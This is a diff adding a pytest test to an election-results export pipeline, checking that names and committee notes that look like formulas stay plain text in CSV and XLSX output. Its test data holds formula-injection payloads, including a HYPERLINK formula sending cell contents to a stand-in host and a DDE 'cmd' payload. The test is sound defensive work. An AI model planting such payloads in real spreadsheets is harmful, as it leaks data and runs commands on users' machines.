@@ -12,6 +12,7 @@ after looking at the new render).
 
 from __future__ import annotations
 
+import copy
 import csv
 import hashlib
 import io
@@ -19,6 +20,7 @@ import json
 import os
 import shutil
 import stat
+import zipfile
 from pathlib import Path
 
 import numpy as np
@@ -27,6 +29,7 @@ import pytest
 from certified_case import hanoi_case, run
 from PIL import Image
 
+from pipeline.documents.export import result_csv, result_xlsx
 from pipeline.documents.minutes import chart_png, minutes_pdf
 from pipeline.documents.verify import verify_package
 
@@ -98,6 +101,35 @@ def test_xlsx_has_numbers_not_text(hanoi) -> None:
     rows = [r for r in sheet.iter_rows(values_only=True) if r and r[0] == 1]
     assert rows[0][:9] == (1, "Trần Sỹ Thanh", "Chủ tịch UBND thành phố", 75, 8, 4, 85.23, 9.09, 4.55)
     assert "Đối chiếu" in wb.sheetnames
+
+
+FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1:A9)",
+            "\tTab", "\r=1")
+
+
+def test_names_and_notes_that_look_like_formulas_stay_text(doc) -> None:
+    """A person named like a formula, or a committee note written as one, is text in the CSV
+    (behind an apostrophe) and the XLSX (a string cell): no spreadsheet runs it."""
+    from openpyxl import load_workbook
+
+    doc = copy.deepcopy(doc)
+    for c, text in zip(doc["candidates"], FORMULAS, strict=False):
+        c["name"] = text
+    doc["candidates"][0]["position"] = "=1+1"
+    doc["reconciliation"]["note"] = "=cmd|' /C calc'!A0"
+    rows = list(csv.reader(io.StringIO(result_csv(doc).decode("utf-8-sig"))))
+    assert [r[1] for r in rows[1:]] == ["'" + f for f in FORMULAS[:len(doc["candidates"])]]
+    assert rows[1][2] == "'=1+1" and rows[1][3] == "75"
+    data = result_xlsx(doc)
+    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
+        assert not any(b"<f>" in xlsx.read(n) for n in xlsx.namelist() if n.endswith(".xml"))
+    wb = load_workbook(io.BytesIO(data))
+    people = [r for r in wb["Kết quả"].iter_rows() if r[0].value in (1, 2, 3, 4, 5)]
+    assert [r[1].value for r in people] == list(FORMULAS[:len(people)])
+    assert all(r[1].data_type == "s" and r[1].quotePrefix for r in people)
+    assert people[0][3].value == 75 and people[0][3].data_type == "n"
+    notes = [r[1] for r in wb["Đối chiếu"].iter_rows() if r[1].value == "=cmd|' /C calc'!A0"]
+    assert len(notes) == 1 and notes[0].data_type == "s"
 
 
 def pdf_text(path: Path) -> str:
